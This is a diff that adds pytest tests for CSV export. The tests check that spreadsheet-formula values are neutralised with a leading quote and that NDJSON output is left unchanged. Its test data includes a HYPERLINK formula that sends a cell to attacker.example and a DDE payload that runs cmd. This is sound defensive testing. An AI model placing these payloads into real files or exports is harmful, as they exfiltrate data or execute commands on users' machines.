@@ -40,6 +40,34 @@ def test_csv_header_from_the_first_records_nested_as_json_and_late_keys_in_extra
     assert job_files.encode("csv", [], None) == (b"", None)      # no records yet: no header yet
 
 
+HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&C2,"Click")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("value", [HYPERLINK, DDE, "+1+cmd", "-2+3", "\t=1", "\r=1", "  =1+1", "\u00a0@x"])
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(value):
+    data, _ = job_files.encode("csv", [{"id": "1", "firstName": value, "n": 5}], None)
+    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
+    assert rows[1] == ["1", "'" + value, "5", ""]
+
+
+@pytest.mark.parametrize("value", ["-12.5", "+15551234567", "-3", "a=b", "x@example.com", "", "0"])
+def test_csv_cells_that_cannot_run_are_as_ac_sent_them(value):
+    data, _ = job_files.encode("csv", [{"id": "1", "v": value}], None)
+    assert list(csv.reader(io.StringIO(data.decode(), newline="")))[1] == ["1", value, ""]
+
+
+def test_csv_header_cells_and_late_keys_are_inert_too_and_ndjson_is_untouched():
+    record = {"=cmd": "x", "id": "1", "first": HYPERLINK}
+    data, columns = job_files.encode("csv", [record], None)
+    more, _ = job_files.encode("csv", [{"id": "2", "@late": DDE}], columns)
+    rows = list(csv.reader(io.StringIO((data + more).decode(), newline="")))
+    assert rows[0] == ["'=cmd", "id", "first", "_extra"] and columns == ["=cmd", "id", "first"]
+    assert json.loads(rows[2][-1]) == {"@late": DDE}      # inside a JSON object: the cell starts with {
+    ndjson, _ = job_files.encode("ndjson", [record], None)
+    assert json.loads(ndjson) == record                   # NDJSON: exactly as AC sent it
+
+
 def test_gzip_members_one_after_another_read_as_one_file():
     out = b""
     for chunk in (b"first\n", b"", b"second\n"):
